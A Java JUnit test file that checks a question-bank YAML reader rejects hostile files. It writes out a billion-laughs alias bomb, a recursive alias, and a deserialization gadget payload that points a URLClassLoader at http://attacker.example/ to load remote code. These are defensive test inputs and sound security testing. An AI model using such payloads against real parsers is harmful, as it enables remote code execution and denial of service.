package app.steppe.questionbank.domain.yaml;

import static app.steppe.questionbank.domain.yaml.QuestionSetYamlReaderTest.aTrueFalseQuestion;
import static app.steppe.questionbank.domain.yaml.QuestionSetYamlReaderTest.minimalSet;
import static app.steppe.questionbank.domain.yaml.YamlFiles.problems;
import static app.steppe.questionbank.domain.yaml.YamlFiles.utf8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;

import org.junit.jupiter.api.Test;

/** Files written to hurt the reader: it must answer with a clear problem, quickly, and never build objects. */
class HostileYamlTest {

    private final QuestionSetYamlReader reader = new QuestionSetYamlReader();

    @Test
    void stopsABillionLaughsAliasBombWithAClearProblem() {
        StringBuilder bomb = new StringBuilder("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (char level = 'b'; level <= 'i'; level++) {
            char previous = (char) (level - 1);
            bomb.append(level).append(": &").append(level).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(9, "*" + previous))).append("]\n");
        }

        List<YamlProblem> problems = assertTimeoutPreemptively(Duration.ofSeconds(5),
                () -> problems(reader.read("bomb.yaml", utf8(bomb.toString()))));

        assertThat(problems).extracting(YamlFiles::seen).containsExactly("0 null yaml.tooManyAliases");
        assertThat(problems.get(0).args()).containsExactly(10);
    }

    @Test
    void allowsAFewAliases() {
        String yaml = minimalSet("""
                  - id: aliased
                    type: true_false
                    prompt: &prompt China adopted a wait-and-see approach.
                    cite: &quotes ["China adopted a wait-and-see approach"]
                    answer: true
                  - id: aliased-too
                    type: true_false
                    prompt: *prompt
                    cite: *quotes
                    answer: true
                """);

        assertThat(YamlFiles.accepted(reader.read("aliases.yaml", utf8(yaml))).set().questions()).hasSize(2);
    }

    @Test
    void refusesBytesThatAreNotUtf8NamingTheLine() {
        byte[] latin1 = minimalSet(aTrueFalseQuestion("caf\u00e9")).getBytes(StandardCharsets.ISO_8859_1);

        List<YamlProblem> problems = problems(reader.read("latin1.yaml", latin1));

        assertThat(problems).extracting(YamlFiles::seen).containsExactly("5 null yaml.notUtf8");
        assertThat(problems.get(0).fileName()).isEqualTo("latin1.yaml");
    }

    @Test
    void refusesAFileOverOneMegabyteBeforeParsingIt() {
        ByteArrayOutputStream big = new ByteArrayOutputStream();
        big.writeBytes(utf8("set: big\n# "));
        big.writeBytes(utf8("x".repeat(1_000_000)));

        List<YamlProblem> problems = problems(reader.read("big.yaml", big.toByteArray()));

        assertThat(problems).extracting(YamlFiles::seen).containsExactly("0 null yaml.fileTooLarge");
    }

    @Test
    void refusesTagsThatWouldConstructJavaObjects() {
        String yaml = """
                set: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
                title: A set
                """;

        List<YamlProblem> problems = problems(reader.read("gadget.yaml", utf8(yaml)));

        assertThat(problems).extracting(YamlFiles::seen).containsExactly("1 null yaml.tagNotAllowed");
        assertThat(problems.get(0).args()[0]).asString().contains("javax.script.ScriptEngineManager");
    }

    @Test
    void refusesLocalTagsAndBinaryValues() {
        String yaml = minimalSet("""
                  - id: tagged
                    type: true_false
                    prompt: !shout China adopted a wait-and-see approach.
                    explanation: !!binary aGVsbG8=
                    cite: ["China adopted a wait-and-see approach"]
                    answer: true
                """);

        assertThat(problems(reader.read("tags.yaml", utf8(yaml)))).extracting(YamlFiles::seen)
                .containsExactly("7 tagged yaml.tagNotAllowed", "8 tagged yaml.tagNotAllowed");
    }

    @Test
    void refusesNestingDeeperThanTheFormatNeeds() {
        String deep = "set: " + "[".repeat(30) + "]".repeat(30) + "\n";

        assertThat(problems(reader.read("deep.yaml", utf8(deep)))).extracting(YamlFiles::seen)
                .containsExactly("0 null yaml.tooDeep");
    }

    @Test
    void survivesARecursiveAlias() {
        String yaml = minimalSet("""
                  - &loop
                    id: loop
                    type: ordering
                    prompt: Loop.
                    cite: ["China adopted a wait-and-see approach"]
                    items: [a, b, *loop]
                """);

        List<YamlProblem> problems = assertTimeoutPreemptively(Duration.ofSeconds(5),
                () -> problems(reader.read("loop.yaml", utf8(yaml))));

        assertThat(problems).extracting(YamlFiles::seen).containsExactly("5 loop yaml.expectedText");
    }
}
